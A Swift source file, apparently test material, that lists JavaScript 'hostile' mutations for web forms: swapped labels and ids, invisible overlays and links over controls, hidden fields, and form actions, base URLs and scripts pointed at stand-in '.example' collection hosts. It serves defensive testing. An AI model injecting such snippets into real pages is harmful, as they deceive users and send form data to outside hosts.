import Portal

extension MutationOperator {
    /// The page misleads whoever reads or fills it.
    static let hostilities = [
        MutationOperator(
            "labels-swapped", .hostile,
            "if (texts.length < 2) return false; const a = pick(texts), b = texts[(texts.indexOf(a) + 1) % texts.length]; if (label(a).textContent === label(b).textContent) return false; swapText(label(a), label(b));"
        ),
        MutationOperator(
            "labels-swapped-by-for", .hostile,
            "const list = texts.filter(el => el.id); if (list.length < 2) return false; const [a, b] = list, x = label(a), y = label(b); [x.htmlFor, y.htmlFor] = [y.htmlFor, x.htmlFor];"
        ),
        MutationOperator(
            "labels-swapped-for-the-eye", .hostile,
            #"""
            const list = texts.filter(el => !el.closest("fieldset") && !el.closest(".san-row"));
            if (list.length < 2) return false;
            const a = label(list[0]), b = label(list[1]), distance = b.getBoundingClientRect().top - a.getBoundingClientRect().top;
            if (Math.abs(distance) < 20) return false;
            a.style.cssText = "position:relative;top:" + distance + "px"; b.style.cssText = "position:relative;top:" + -distance + "px";
            """#),
        MutationOperator(
            "names-swapped", .hostile,
            "if (texts.length < 2) return false; const [a, b] = texts; if (a.name === b.name) return false; [a.name, b.name] = [b.name, a.name];"
        ),
        MutationOperator(
            "ids-swapped", .hostile,
            "const list = texts.filter(el => el.id); if (list.length < 2) return false; const [a, b] = list; const id = a.id; a.id = b.id; b.id = id;"
        ),
        MutationOperator(
            "lid", .hostile,
            "if (!controls.length) return false; const el = pick(controls), box = el.getBoundingClientRect(); const lid = document.createElement('div'); lid.style = `position:absolute;left:${box.left + scrollX}px;top:${box.top + scrollY}px;width:${box.width}px;height:${box.height}px`; document.body.append(lid);"
        ),
        MutationOperator(
            "lid-over-button", .hostile,
            "if (!buttons.length) return false; const el = pick(buttons), box = el.getBoundingClientRect(); const lid = document.createElement('a'); lid.href = '/elsewhere'; lid.style = `position:absolute;left:${box.left + scrollX}px;top:${box.top + scrollY}px;width:${box.width}px;height:${box.height}px`; document.body.append(lid);"
        ),
        MutationOperator(
            "field-over-field", .hostile,
            "if (texts.length < 2) return false; const [a, b] = texts; const from = b.getBoundingClientRect(), to = a.getBoundingClientRect(); b.style.cssText = `position:relative;top:${to.top - from.top}px;z-index:9`;"
        ),
        MutationOperator(
            "unseen", .hostile,
            "if (!labelled.length) return false; pick(labelled).style.cssText = pick(['opacity:0', 'visibility:hidden', 'display:none', 'width:0;height:0;padding:0;border:0', 'position:absolute;left:-9999px', 'clip-path:inset(100%)']);"
        ),
        MutationOperator(
            "unseen-group", .hostile,
            "if (!labelled.length) return false; cardOf(pick(labelled)).style.cssText = pick(['opacity:0', 'visibility:hidden', 'display:none', 'content-visibility:hidden']);"
        ),
        MutationOperator(
            "label-unseen", .hostile,
            "if (!labelled.length) return false; label(pick(labelled)).style.cssText = pick(['display:none', 'visibility:hidden', 'opacity:0']);"
        ),
        MutationOperator(
            "double-id", .hostile,
            "const list = labelled.filter(el => el.id); if (!list.length) return false; const el = pick(list); const twin = document.createElement('div'); twin.id = el.id; document.body.append(twin);"
        ),
        MutationOperator(
            "twin", .hostile,
            "const list = labelled.filter(el => el.id); if (!list.length) return false; const el = pick(list); el.after(el.cloneNode());"
        ),
        MutationOperator(
            "foreign-action", .hostile,
            "if (!form) return false; form.action = 'https://' + word() + '.example/collect';"),
        MutationOperator(
            "foreign-base", .hostile,
            "const base = document.createElement('base'); base.href = 'https://' + word() + '.example/'; document.head.prepend(base);"
        ),
        MutationOperator(
            "foreign-script", .hostile,
            "const code = document.createElement('script'); code.src = 'https://' + word() + '.example/a.js'; code.type = 'text/plain'; document.head.append(code);"
        ),
        MutationOperator(
            "foreign-frame", .hostile,
            "const frame = document.createElement('iframe'); frame.src = 'http://localhost:9/' + word(); scope.append(frame);"
        ),
        MutationOperator(
            "foreign-button", .hostile,
            "if (!buttons.length) return false; pick(buttons).setAttribute('formaction', 'https://' + word() + '.example/');"
        ),
        MutationOperator(
            "other-target", .hostile,
            "if (!form) return false; form.setAttribute(...pick([['target', '_blank'], ['enctype', 'multipart/form-data'], ['target', 'other']]));"
        ),
        MutationOperator(
            "hidden-input", .hostile,
            "if (!form) return false; form.append(make('<input type=hidden name=' + word() + ' value=all-release-lines>'));"
        ),
        MutationOperator(
            "hidden-twin", .hostile,
            "const list = labelled.filter(el => el.name); if (!list.length || !form) return false; form.append(make('<input type=hidden name=' + pick(list).name + ' value=x>'));"
        ),
        MutationOperator(
            "review-labels-swapped", .hostile,
            "const terms = [...document.querySelectorAll('dt')].filter(el => isShown(el) && el.nextElementSibling?.id.startsWith('review-')); if (terms.length < 2) return false; swapText(terms[0], terms[1]);"
        ),
    ]
}
